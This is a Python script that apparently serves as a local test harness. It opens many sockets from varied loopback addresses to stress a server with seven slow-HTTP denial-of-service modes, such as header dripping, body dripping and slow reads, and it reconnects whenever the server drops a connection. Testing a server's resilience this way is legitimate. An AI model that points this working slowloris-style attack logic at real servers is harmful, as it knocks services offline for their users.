#!/usr/bin/env python3
"""Holds many sockets to a server open in one of seven ways, from many addresses of this machine, and opens each anew
when the server closes it. A program of its own, so that it does not slow down the visitors of under_fire.py.

Usage: attacker.py MODE SOCKETS PORT. Prints "ready" when all sockets were connected once; ends when its input ends."""
import resource
import select
import socket
import sys
import time

GET = b"GET %s HTTP/1.1\r\nHost: h\r\n\r\n"
POST = b"POST /handle/demo/report HTTP/1.1\r\nHost: h\r\nContent-Type: application/x-www-form-urlencoded\r\n" \
       b"Content-Length: %d\r\n\r\n"
LARGEST_BODY = 262144
SOCKETS_PER_ADDRESS = 25  # from outside, 32 connections of one address are let in
PAUSE = 1.0  # between two drops of a drip
LONGEST = 3.0  # a peer that reads nothing may not notice that it was closed


class Mode:
    """What is sent first, and then once in each pause; whether answers are read."""

    def __init__(self, first=b"", drop=b"", reads=True):
        self.first, self.drop, self.reads = first, drop, reads


MODES = {
    "idle": Mode(),
    "head_drip": Mode(b"GET / HTTP/1.1\r\nHost: h\r\nX: ", b"a"),
    "body_drip": Mode(POST % 1000, b"a"),
    "huge_length_drip": Mode(POST % LARGEST_BODY, b"a" * 4096),
    "slow_read_8_files": Mode(GET % b"/large.pdf" * 8, reads=False),
    "slow_read_100_pipelined": Mode(GET % b"/" * 100, reads=False),
    "body_one_byte_short": Mode(POST % LARGEST_BODY + b"a" * (LARGEST_BODY - 1)),
}


class Peer:
    def __init__(self, number):
        group = number // SOCKETS_PER_ADDRESS
        self.address = f"127.{9 + group // 62500}.{group // 250 % 250}.{group % 250 + 1}"
        self.socket = None
        self.unsent = b""
        self.opened = 0.0
        self.was_ready = False


class Attack:
    def __init__(self, mode, count, port):
        self.mode, self.port = mode, port
        self.epoll = select.epoll()
        self.by_number = {}  # peers by the number of their descriptor
        self.peers = [Peer(number) for number in range(count)]
        self.ready = 0

    def open(self, peer):
        if peer.socket is not None:
            self.by_number.pop(peer.socket.fileno(), None)
            peer.socket.close()  # leaves the epoll by itself
        peer.socket = socket.socket(socket.AF_INET, socket.SOCK_STREAM | socket.SOCK_NONBLOCK)
        if not self.mode.reads:
            peer.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 2048)
        peer.socket.bind((peer.address, 0))
        peer.socket.connect_ex(("127.0.0.1", self.port))
        peer.unsent, peer.opened = self.mode.first, time.monotonic()
        self.by_number[peer.socket.fileno()] = peer
        self.epoll.register(peer.socket, select.EPOLLOUT)

    def send(self, peer):
        if peer.unsent:
            peer.unsent = peer.unsent[peer.socket.send(peer.unsent):]
        if not peer.was_ready:
            peer.was_ready = True
            self.ready += 1
        if not peer.unsent:
            self.epoll.modify(peer.socket, select.EPOLLRDHUP | (select.EPOLLIN if self.mode.reads else 0))

    def on_event(self, peer, events):
        try:
            if events & (select.EPOLLERR | select.EPOLLHUP):
                self.open(peer)
            elif events & select.EPOLLOUT:
                self.send(peer)
            elif not self.mode.reads or not peer.socket.recv(65536):
                self.open(peer)
        except BlockingIOError:
            pass
        except OSError:
            self.open(peer)

    def drip(self, now):
        for peer in self.peers:
            try:
                if not self.mode.reads and now - peer.opened > LONGEST:
                    self.open(peer)
                elif self.mode.drop and not peer.unsent:
                    peer.socket.send(self.mode.drop)
            except BlockingIOError:
                pass
            except OSError:
                self.open(peer)

    def run(self):
        self.epoll.register(sys.stdin, select.EPOLLIN)
        for peer in self.peers:
            self.open(peer)
        told, last_drip = False, time.monotonic()
        while True:
            for number, events in self.epoll.poll(0.2):
                if number == sys.stdin.fileno():
                    return
                if number in self.by_number:
                    self.on_event(self.by_number[number], events)
            if not told and self.ready == len(self.peers):
                told = True
                print("ready", flush=True)
            if time.monotonic() - last_drip > PAUSE:
                last_drip = time.monotonic()
                self.drip(last_drip)


def main():
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    Attack(MODES[sys.argv[1]], int(sys.argv[2]), int(sys.argv[3])).run()


if __name__ == "__main__":
    main()
